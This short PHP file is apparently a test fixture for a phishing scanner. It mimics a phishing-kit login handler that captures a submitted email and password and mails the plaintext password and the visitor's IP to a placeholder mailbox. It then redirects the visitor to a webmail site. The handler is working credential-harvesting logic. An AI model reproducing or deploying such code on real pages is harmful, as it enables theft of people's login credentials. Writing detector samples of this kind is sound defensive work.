<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A kit's handler: hashes another field for show, and mails the password as typed.
$user = $_POST['email'];
$pass = $_POST['password'];
$token = password_hash($user, PASSWORD_DEFAULT);
$msg = "Email: $user\nPassword: $pass\nIP: " . $_SERVER['REMOTE_ADDR'];
mail('results.box@example.invalid', 'Webmail login', $msg);
header('Location: https://mail.example.com/');
